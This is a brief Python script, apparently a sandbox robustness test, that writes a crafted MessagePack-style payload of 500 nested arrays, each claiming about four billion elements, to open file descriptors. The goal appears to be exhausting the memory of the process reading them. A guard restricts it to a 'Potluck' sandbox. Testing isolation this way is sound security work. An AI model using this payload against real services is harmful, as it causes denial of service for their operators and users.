"""Sends a few bytes that announce a list of four thousand million things, in which each is another such list."""

import os

if os.environ.get("POTLUCK_SANDBOX") != "1" or os.uname().nodename != "potluck" or os.getuid() == 0:
    raise SystemExit("This program attacks its surroundings. It runs only inside a Potluck sandbox.")

import contextlib
import struct
import time

BODY = b"\x94\xaeInputSucceeded\x01" + b"\xdd\xff\xff\xff\xff" * 500 + b"\x00"


def attack() -> None:
    for descriptor in range(3, 50):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack(">I", len(BODY)) + BODY)
    time.sleep(1000)
